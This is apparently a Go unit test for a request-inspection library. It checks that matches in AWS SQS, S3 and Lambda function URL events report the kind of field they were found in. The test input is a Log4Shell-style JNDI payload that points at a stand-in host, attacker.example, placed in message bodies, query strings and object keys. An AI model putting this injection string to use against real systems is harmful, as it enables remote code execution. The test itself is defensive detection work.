package inspect

import (
	"context"
	"testing"
	"time"

	"weir/inspect/source"
)

func TestAMatchTellsTheKindOfItsField(t *testing.T) {
	const jndi = `${jndi:ldap://attacker.example/a}`
	fields := []FieldKind{{Source: "sqs", Field: "*body → note", Kind: source.Text}, {Source: "function-url", Field: "query.q", Kind: source.Code}}
	inspector := New(Options{Mode: ModeMonitor, Budget: time.Minute, Fields: fields})
	sqs := func(body string) string {
		return `{"Records":[{"messageId":"m","receiptHandle":"r","body":` + body + `,"attributes":{},"messageAttributes":{},"md5OfBody":"x","eventSource":"aws:sqs","eventSourceARN":"arn:aws:sqs:eu-west-1:123456789012:q","awsRegion":"eu-west-1"}]}`
	}
	url := func(name string) string {
		return `{"version":"2.0","routeKey":"$default","rawPath":"/","rawQueryString":"` + name + `=%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fa%7D","headers":{"host":"abcdefghij.lambda-url.eu-west-1.on.aws"},` +
			`"queryStringParameters":{"` + name + `":"` + jndi + `"},"requestContext":{"accountId":"anonymous","apiId":"abcdefghij","domainName":"abcdefghij.lambda-url.eu-west-1.on.aws","domainPrefix":"abcdefghij",` +
			`"http":{"method":"GET","path":"/","protocol":"HTTP/1.1","sourceIp":"192.0.2.7","userAgent":"x"},"requestId":"1","routeKey":"$default","stage":"$default","time":"x","timeEpoch":1},"isBase64Encoded":false}`
	}
	for name, c := range map[string]struct{ event, kind string }{
		"nobody has said anything":      {sqs(`"` + jndi + `"`), "unknown"},
		"the user has declared it":      {sqs(`"{\"note\":\"` + jndi + `\"}"`), "text"},
		"the source knows":              {`{"Records":[{"eventVersion":"2.1","eventSource":"aws:s3","awsRegion":"eu-west-1","eventTime":"2026-04-09T12:34:56.123Z","eventName":"ObjectCreated:Put","s3":{"s3SchemaVersion":"1.0","bucket":{"name":"b"},"object":{"key":"` + jndi + `","size":1}}}]}`, "path"},
		"a part of a request":           {url("name"), "unknown"},
		"a part that the user declared": {url("q"), "code"},
	} {
		v, _ := inspector.Inspect(context.Background(), source.Invocation{ID: name, Payload: []byte(c.event)})
		found := false
		for _, m := range v.Matches {
			found = found || m.Kind == c.kind && m.Score > 0
			if m.Field != "" && m.Kind == "" {
				t.Errorf("%s: rule %d in %s has no kind", name, m.Rule, m.Field)
			}
		}
		if !found {
			t.Errorf("%s: no match of the kind %s in %+v", name, c.kind, v.Matches)
		}
	}
	v, _ := inspector.Inspect(context.Background(), source.Invocation{ID: "keys", Payload: []byte(`{"a":1,"a":2}`)})
	if len(v.Matches) != 1 || v.Matches[0].Kind != "" {
		t.Errorf("of the event as a whole: %+v", v.Matches)
	}
}
